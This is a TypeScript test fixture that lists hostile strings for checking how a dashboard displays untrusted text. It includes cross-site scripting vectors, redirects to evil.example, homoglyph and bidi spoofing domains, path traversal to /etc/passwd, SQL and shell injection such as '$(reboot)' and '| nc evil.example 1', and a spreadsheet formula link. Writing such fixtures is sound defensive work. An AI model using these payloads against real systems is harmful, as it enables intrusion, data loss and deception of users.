// Texts that made other dashboards run, hide or mistake something. None of them does anything here but be shown.

/** Set by any script that gets to run. */
export const flag = 'plumblineWasHere';
const run = `window.${flag}=(window.${flag}||0)+1`;

const tags = ['img src=x onerror', 'svg onload', 'body onload', 'iframe onload', 'video src=x onerror', 'audio src=x onerror', 'input autofocus onfocus', 'select autofocus onfocus', 'details open ontoggle', 'marquee onstart', 'object data=x onerror', 'embed src=x onload', 'a href=# onclick', 'div onmouseover', 'style onload', 'link rel=stylesheet href=x onerror', 'math href=javascript:1 onclick', 'form onsubmit', 'button onclick', 'textarea autofocus onfocus']; // prettier-ignore

const scripts = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `</script><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`, `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`, `data:text/html,<script>${run}</script>`, `vbscript:${run}`,
  `"><script>${run}</script>`, `'><script>${run}</script>`, `" onmouseover="${run}`, `' onfocus='${run}' autofocus='`, '`-alert(1)-`', `\${${run}}`, `{{constructor.constructor('${run}')()}}`, `#{${run}}`, `<%= ${run} %>`,
  `<svg><script>${run}</script></svg>`, `<svg><animate onbegin="${run}" attributeName=x>`, `<svg><foreignObject><body onload="${run}"></foreignObject></svg>`, `<math><mtext></p><img src=x onerror="${run}">`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`, `<base href="//evil.example/">`, '<meta http-equiv=refresh content="0;url=//evil.example/">', `<link rel=import href="data:text/html,${run}">`, `<iframe srcdoc="<script>parent.${run.replaceAll('window.', '')}</script>">`,
  `\u003cscript\u003e${run}\u003c/script\u003e`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `%3Cscript%3E${run}%3C/script%3E`, `<!--<img src="--><img src=x onerror=${run}>`, `]]><script>${run}</script>`,
]; // prettier-ignore

const deceiving = [
  'user\u202egnp.exe', '\u202emoc.elgoog', 'pay\u2066pal\u2069.com', '\u200fpool.example.org', 'pool\u200b.example.org', 'po\u200dol.example.org', 'po\u00adol.example.org', '\ufeffpool.example.org', 'p\u0430ypal.com', 'g\u043e\u043egle.com', 'xn--pypal-4ve.com', 'xn--80ak6aa92e.com', '\uff50\uff4f\uff4f\uff4c.example.org', 'po\u0337ol', 'e\u0301'.repeat(60), 'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324', '\u{e0041}\u{e0042}tag', '\u{1f4a9}'.repeat(40), '\u0000null', 'line\nbreak', 'tab\tbed', 'cr\rlf\n', '\u001b[31mred\u001b[0m', '\u2028\u2029', '\ud800', '\udfff', 'a\u0000b',
]; // prettier-ignore

const odd = [
  '', ' ', '.', '..', '../../etc/passwd', '/', '//evil.example', 'a'.repeat(600), 'a-'.repeat(300), '\u4e2d'.repeat(200), '-'.repeat(253), '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '{}', '[]', '{"__proto__":{"polluted":1}}', "'; DROP TABLE edges; --", '$(reboot)', '`reboot`', '| nc evil.example 1', '=HYPERLINK("http://evil.example")', '@SUM(1)', 'http://evil.example/', 'https://evil.example/?x=<b>', '[link](http://evil.example)', '<http://evil.example|click>', '*bold*', '%00', '%n%s%x', 'CON', 'a?b#c&d=e', '🏴‍☠️',
]; // prettier-ignore

export const payloads: readonly string[] = [...tags.map((tag) => `<${tag}=${run}>`), ...scripts, ...deceiving, ...odd];
